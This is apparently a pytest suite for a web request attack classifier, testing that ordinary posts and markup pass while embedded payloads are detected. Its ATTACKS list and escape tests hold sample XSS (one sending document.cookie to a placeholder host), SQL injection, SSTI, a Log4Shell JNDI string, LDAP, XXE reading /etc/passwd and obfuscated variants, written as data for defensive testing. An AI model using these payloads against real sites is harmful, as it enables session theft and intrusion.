"""Ordinary texts that speak of code or hold markup, which are no attacks; and payloads among them, which still are."""

import json
import time

import pytest

from sensor.core.keyed import KeyedHash
from sensor.describe.attacks.classes import AttackClass, Request
from sensor.describe.attacks.classifier import AttackClassifier
from sensor.describe.attacks.core_rules import load_core_rules
from sensor.describe.attacks.own_rules import _LOOSE, OWN_RULES
from sensor.describe.attacks.prose import TEXT_MAX, is_document, is_search, shorten, strip_marks, strip_markup

HASH = KeyedHash(1, bytes(16)).compute
CLASSIFIERS = (AttackClassifier(HASH), AttackClassifier(HASH, load_core_rules()))

ORDINARY = (
    "The query planner now selects the index from the statistics, and joins are ordered by cost.",
    "You can insert rows with `INSERT INTO ... SELECT` and then delete from the old table where the id is known.",
    "If `update()` or `delete()` is called on a session that was closed, the error is raised by the driver.",
    "JavaScript: The Good Parts",
    "Learn JavaScript: from zero to hero (2nd edition)",
    "Our union met today, and the select few from the board were there",
    "Use `echo`, `cat` and `ls` to look at the files, then `sudo apt install` what you need.",
    "Why does my code print `None`? I use print(x) or return it; which of them is right?",
    '"sweater dress" AND "christmas"',
    'red "leather bag" OR "canvas bag"',
    '<p>Hello <b>world</b>, see <a href="https://example.org/a?b=c" target="_blank">this page</a>.</p>',
    '<!-- wp:paragraph {"align":"center"} --><p class="has-text-align-center">Text</p><!-- /wp:paragraph -->',
    '<figure><img src="/images/a.png" alt="A cat" width="300"/><figcaption>A cat</figcaption></figure>',
    "query Orders($id: ID!) {\n  user(id: $id) {\n    id\n    name\n    ...Contact\n  }\n}",
    "{\n  hero {\n    id\n    friends {\n      id\n    }\n  }\n}",
    "fragment Contact on User {\n  id\n  email\n  host\n}\n\nquery {\n  first: user(id: 1) {\n    id\n  }\n}",
    "```js\nconst total = items.filter(item => item.id && item.count > 0).length;\n```",
    "def f(x):\n    return x\n\nfor i in range(3):\n    print(f(i))\n",
)
ATTACKS = (
    ('<p>Hello</p><script>fetch("//h/"+document.cookie)</script>', AttackClass.XSS),
    ("<b>x</b><img src=x onerror=alert(1)>", AttackClass.XSS),
    ('<p style="background:url(javascript:alert(1))">', AttackClass.XSS),
    ('<a href="javascript:alert(1)">this is what you want to see here</a>', AttackClass.XSS),
    ("I like it, it was great, and this is why ' UNION SELECT password FROM users --", AttackClass.SQLI),
    ("thank you for the help with that, it was good ' or '1'='1", AttackClass.SQLI),
    ("it was a good day for you and for us {{7*7}}", AttackClass.SSTI),
    ("there is more than you can see here ${jndi:ldap://h/a}", AttackClass.LOG4SHELL),
    ("line\nline\nline\nline\n<svg/onload=alert(1)>", AttackClass.XSS),
    ("confirm.call(null,1)", AttackClass.XSS),
    ("[1].find(alert)", AttackClass.XSS),
    ("a l e r t (1)", AttackClass.XSS),
    ("window['al'+'ert'](1)", AttackClass.XSS),
    ("(cn:caseExactMatch:=Fred)", AttackClass.LDAP),
    ("(userAccountControl:1.2.840.113556.1.4.803:=2)", AttackClass.LDAP),
    ("\\\\10.0.0.9\\share\\a.exe", AttackClass.TRAVERSAL),
    ("\\\\fileserver\\c$\\windows\\win.ini", AttackClass.TRAVERSAL),
    ("Ann\r\nBcc: b@example.test", AttackClass.SPLITTING),
    ('<xs:include schemaLocation="http://h.test/a.xsd"/>', AttackClass.XXE),
    ('<a xsi:noNamespaceSchemaLocation="http://h.test/a.xsd"/>', AttackClass.XXE),
    ('<xi:include href="file:///etc/passwd" parse="text"/>', AttackClass.XXE),
)


@pytest.mark.parametrize("text", ORDINARY)
@pytest.mark.parametrize("classifier", CLASSIFIERS)
def test_ordinary_texts_are_no_attacks(classifier: AttackClassifier, text: str) -> None:
    body = json.dumps({"title": text, "body": {"rendered": text}})
    assert classifier.classify(Request("/posts", method="POST", body=body, content_type="application/json")) is None


@pytest.mark.parametrize(("text", "kind"), ATTACKS)
@pytest.mark.parametrize("classifier", CLASSIFIERS)
def test_payloads_in_texts_are_attacks(classifier: AttackClassifier, text: str, kind: AttackClass) -> None:
    found = classifier.classify(Request("/posts", body=json.dumps({"text": text}), content_type="application/json"))
    assert found is not None
    assert found.attack_class is kind


@pytest.mark.parametrize(
    "query",
    [
        "u=https%3A%2F%2Fexample.org%2Fa%3Fb%3Dc&uid=%23%7Buser.id%7D",
        "data=;$qc=1314609323;$ql=Medium;$qpc=44143;$qpp=;$dma=0",
        "appid=%7B8A69D345%7D&version=1.3.36.112&x=id%3Dabc%26v%3D1.2%26installsource%3Dondemand%26uc",
        "url=http://example.org/click?",
    ],
)
@pytest.mark.parametrize("classifier", CLASSIFIERS)
def test_queries_of_counters_and_updates_are_no_attacks(classifier: AttackClassifier, query: str) -> None:
    assert classifier.classify(Request("/image/fetch/w_300/https://cdn.example.org/etc/a.jpg", query)) is None
    assert classifier.classify(Request("/etc/designs/site/jquery.min.js", query)) is None


def test_loose_rules_are_named_as_they_are() -> None:
    names = [rule.name for rule in OWN_RULES]
    assert len(set(names)) == len(names)
    assert {rule.name for rule in OWN_RULES if rule.is_loose} == set(_LOOSE.split())


def test_escapes_are_read_in_any_order() -> None:
    for query in ("q=\\u0025253Cscript\\u0025253Ealert(1)", "un\u200bion=1'+un\u200bion+sel\u200bect+1--"):
        assert CLASSIFIERS[0].classify(Request("/", query)) is not None
    hidden = "cGFnZT1DOi9XSU5OVC93aW4uaW5p"  # page=C:/WINNT/win.ini
    assert CLASSIFIERS[0].classify(Request("/", hidden)) is not None


def test_what_texts_are() -> None:
    assert is_document("This is what you asked for, and it works.")
    assert is_document("a\nb\nc\nd\ne")
    assert not is_document("1 UNION SELECT name, password FROM users WHERE id = 1 ORDER BY 1")
    assert is_search('"a b" AND "c"')
    assert not is_search('" or "1"="1')
    assert strip_markup("<p>a</p>") == " a "
    assert strip_markup("a < b") == "a < b"
    assert strip_markup('"><b>x</b>') == '"><b>x</b>'
    assert strip_marks("see `ls` there") == "see  ls  there"
    assert strip_marks("alert`1`") == "alert`1`"


def test_long_texts_are_cut_where_nothing_is_and_keep_their_end() -> None:
    assert shorten("A" * 50_000 + "<script>") == "A" * 64 + "<script>"
    text = shorten("word, " * 20_000 + "the end")
    assert len(text) == TEXT_MAX
    assert text.endswith("the end")


@pytest.mark.parametrize(
    "piece",
    ["<b style=", '<a href="', "<a class ", "<!-- ", "`a ", "`` ", '"a" ', "<<b>b>", '<p style="a" ', "a\n", "the of "],
)
def test_hostile_texts_take_time_in_proportion_to_their_length(piece: str) -> None:
    text = "<script>' or 1=1 " + piece * (TEXT_MAX // len(piece))
    began = time.process_time()
    assert CLASSIFIERS[0].classify_value(text[:TEXT_MAX]) is not None
    assert time.process_time() - began < 0.2
